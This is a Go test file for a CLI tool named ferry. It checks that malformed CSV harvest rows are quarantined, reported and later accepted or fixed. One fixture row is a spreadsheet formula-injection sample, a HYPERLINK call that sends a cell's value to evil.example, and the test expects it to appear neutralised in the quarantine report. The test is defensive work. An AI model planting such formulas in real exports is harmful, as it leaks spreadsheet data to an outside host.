package main

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"ferry/internal/gen"
	"ferry/internal/report"
	"ferry/internal/source"
	"ferry/internal/store"
)

// extractGenerated runs ferry extract (with extra args) on a workspace whose harvest the
// generator wrote and checks its outcome against the answer key: the generator plants broken
// rows, so extract exits 6 (incomplete) and report/quarantined.csv lists exactly the key's
// broken harvest rows (0 with no broken row). It returns extract's output.
func extractGenerated(t *testing.T, dir string, key gen.Key, args ...string) string {
	t.Helper()
	want := harvestBroken(key)
	code := map[bool]int{true: exitIncomplete, false: exitOK}[want > 0]
	out, stderr, got := runFerry(t, append([]string{"extract", "-w", dir}, args...)...)
	if got != code {
		t.Fatalf("extract: exit %d, want %d (%d broken rows in the answer key)\n%s%s", got, code, want, out, stderr)
	}
	if rows := quarantinedRows(t, dir); len(rows) != want {
		t.Fatalf("extract quarantined %d rows, the answer key has %d broken harvest rows: %v", len(rows), want, rows)
	}
	return out + stderr
}

// harvestBroken counts the answer key's broken rows extract must set aside.
func harvestBroken(key gen.Key) int {
	n := 0
	for _, b := range key.BrokenRows {
		if b.Stage == gen.StageHarvest {
			n++
		}
	}
	return n
}

// quarantinedRows reads report/quarantined.csv (checking it is readable by the owner only)
// and returns its data rows; none when extract wrote no such file.
func quarantinedRows(t *testing.T, dir string) [][]string {
	t.Helper()
	path := filepath.Join(dir, "report", report.QuarantineFile)
	if _, err := os.Stat(path); errors.Is(err, os.ErrNotExist) {
		return nil
	}
	return readCSVFile(t, path)
}

// extractHarvest is a harvest written by hand in which four rows cannot be read:
// people.csv line 4 (p3) and line 5 (a formula in the id cell) have more cells than the
// header, line 6 has no id, and companies.csv line 3 repeats id c1. Everything else is good:
// 3 people, 1 company, 1 owner.
const extractHarvest = "testdata/outcomes/extract"

// TestExtractIncompleteListsEveryRow: extract on a harvest with unreadable rows writes the
// snapshot of every other record but exits 6 (incomplete), printing the rows grouped by
// object, file and reason and listing each in report/quarantined.csv (0600; file, line,
// field, reason, the raw row with its formula neutralised). plan works on that snapshot.
// Once every loss is accepted, extract exits 0 saying so; with the rows fixed it exits 0
// and the list is gone.
func TestExtractIncompleteListsEveryRow(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "ws")
	if _, stderr, code := runFerry(t, "init", dir); code != 0 {
		t.Fatalf("init: %s", stderr)
	}
	harvest := filepath.Join(dir, "harvest")
	copyDir(t, extractHarvest, harvest)
	out, stderr, code := runFerry(t, "extract", "-w", dir)
	if code != exitIncomplete {
		t.Fatalf("extract: exit %d, want %d\n%s%s", code, exitIncomplete, out, stderr)
	}
	for _, want := range []string{
		"quarantined: 4 row(s) not in the snapshot:",
		"  2 people (people.csv): row has N cells but the header has N\n",
		"  1 people (people.csv): no id: the id column is empty\n",
		`  1 companies (companies.csv): duplicate id "…", first seen at line N` + "\n",
		"report/quarantined.csv",
		"4 harvest row(s) were quarantined and are not in the snapshot",
	} {
		if !strings.Contains(out+stderr, want) {
			t.Errorf("extract output lacks %q:\n%s%s", want, out, stderr)
		}
	}
	want := [][]string{
		{"company", "companies.csv", "3", "id", `duplicate id "c1", first seen at line 2`, "c1,Northwind Tools Ltd,northwind-tools.co.uk,o1", ""},
		{"person", "people.csv", "4", "column 7", "row has 8 cells but the header has 6; the extra value is in column 7",
			"p3,Ines,Duarte,ines.duarte@northwind-tools.co.uk,c1,o1,left over,cell", ""},
		{"person", "people.csv", "5", "column 7", "row has 7 cells but the header has 6; the extra value is in column 7",
			`'=HYPERLINK("http://evil.example/?x="&A1),Eve,Hacker,eve@evil.example,c1,o1,extra`, ""},
		{"person", "people.csv", "6", "id", "no id: the id column is empty", ",Nameless,Row,nobody@northwind-tools.co.uk,c1,o1", ""},
	}
	if diff := cmp.Diff(want, sortedRows(quarantinedRows(t, dir))); diff != "" {
		t.Errorf("report/quarantined.csv (-want +got):\n%s", diff)
	}
	withStore(t, dir, func(st store.Store) error {
		for kind, n := range map[source.Kind]int{source.Person: 3, source.Company: 1, source.Owner: 1} {
			if got, err := st.CountRecords(context.Background(), kind); err != nil || got != n {
				t.Errorf("snapshot holds %d %s records (%v), want %d", got, kind, err, n)
			}
		}
		return nil
	})
	if out, stderr, code := runFerry(t, "plan", "--offline", "-w", dir); code != 0 {
		t.Fatalf("plan after an incomplete extract: exit %d\n%s%s", code, out, stderr)
	}
	if out, stderr, code := runFerry(t, "decide", "accept-loss", "--all", "-w", dir); code != 0 {
		t.Fatalf("decide accept-loss --all: exit %d\n%s%s", code, out, stderr)
	}
	out, stderr, code = runFerry(t, "extract", "-w", dir)
	if code != exitOK || !strings.Contains(out, "4 quarantined row(s) left out under accepted loss reasons") {
		t.Errorf("extract with every loss accepted: exit %d, want 0 naming the 4 accepted rows\n%s%s", code, out, stderr)
	}
	if rows := quarantinedRows(t, dir); len(rows) != 4 || rows[0][6] == "" {
		t.Errorf("quarantined.csv with the losses accepted = %v, want 4 rows naming the accepted reason", rows)
	}
	keepLines(t, filepath.Join(harvest, "people.csv"), 1, 2, 3, 7)
	keepLines(t, filepath.Join(harvest, "companies.csv"), 1, 2)
	if out, stderr, code := runFerry(t, "extract", "-w", dir); code != exitOK || strings.Contains(out, "quarantined: ") || strings.Contains(out, "quarantined row") {
		t.Errorf("extract of the fixed harvest: exit %d, want 0 and no quarantine\n%s%s", code, out, stderr)
	}
	if rows := quarantinedRows(t, dir); rows != nil {
		t.Errorf("quarantined.csv after the fix = %v, want no file", rows)
	}
}

// TestExtractAgainQuarantinesOnce: extracting a workbook harvest twice (its rows come from
// sheets, not the template file names) quarantines each broken row once, not once per read.
func TestExtractAgainQuarantinesOnce(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "ws")
	if _, stderr, code := runFerry(t, "init", dir); code != 0 {
		t.Fatalf("init: %s", stderr)
	}
	key, err := gen.New(gen.Config{People: 15, Seed: 5}).WriteHarvestDialect(filepath.Join(dir, "harvest"), gen.DialectXLSX)
	if err != nil {
		t.Fatal(err)
	}
	extractGenerated(t, dir, key)
	extractGenerated(t, dir, key)
	withStore(t, dir, func(st store.Store) error {
		items, err := st.QuarantineItems(context.Background(), "")
		if len(items) != len(quarantinedRows(t, dir)) {
			t.Errorf("the store holds %d quarantined rows after two extracts, want %d", len(items), len(quarantinedRows(t, dir)))
		}
		return err
	})
}

// keepLines rewrites a file keeping only the given 1-based lines.
func keepLines(t *testing.T, path string, lines ...int) {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	all := strings.SplitAfter(string(data), "\n")
	var b strings.Builder
	for _, n := range lines {
		b.WriteString(all[n-1])
	}
	if err := os.WriteFile(path, []byte(b.String()), 0o644); err != nil {
		t.Fatal(err)
	}
}

// sortedRows sorts CSV rows by their cells, for comparison.
func sortedRows(rows [][]string) [][]string {
	sort.Slice(rows, func(i, j int) bool { return strings.Join(rows[i], "\x00") < strings.Join(rows[j], "\x00") })
	return rows
}

// TestHarvestCheckAndProbeForetellExtract: on the hand-written harvest with four unreadable
// rows, ferry harvest check exits 6 as extract would, naming the count, and probe says
// extract will exit 6; with the rows fixed, harvest check exits 0.
func TestHarvestCheckAndProbeForetellExtract(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "ws")
	if _, stderr, code := runFerry(t, "init", dir); code != 0 {
		t.Fatalf("init: %s", stderr)
	}
	harvest := filepath.Join(dir, "harvest")
	copyDir(t, extractHarvest, harvest)
	out, stderr, code := runFerry(t, "harvest", "check", harvest)
	if code != exitIncomplete || !strings.Contains(stderr, "4 row(s) would be quarantined") {
		t.Errorf("harvest check: exit %d, want %d naming 4 rows\n%s%s", code, exitIncomplete, out, stderr)
	}
	out, stderr, code = runFerry(t, "probe", "-w", dir)
	if code != exitOK || !strings.Contains(out, "4 harvest rows will be quarantined, so ferry extract will exit 6 (incomplete)") {
		t.Errorf("probe: exit %d, want 0 saying extract will exit 6\n%s%s", code, out, stderr)
	}
	keepLines(t, filepath.Join(harvest, "people.csv"), 1, 2, 3, 7)
	keepLines(t, filepath.Join(harvest, "companies.csv"), 1, 2)
	if out, stderr, code := runFerry(t, "harvest", "check", harvest); code != exitOK {
		t.Errorf("harvest check of the fixed harvest: exit %d, want 0\n%s%s", code, out, stderr)
	}
}
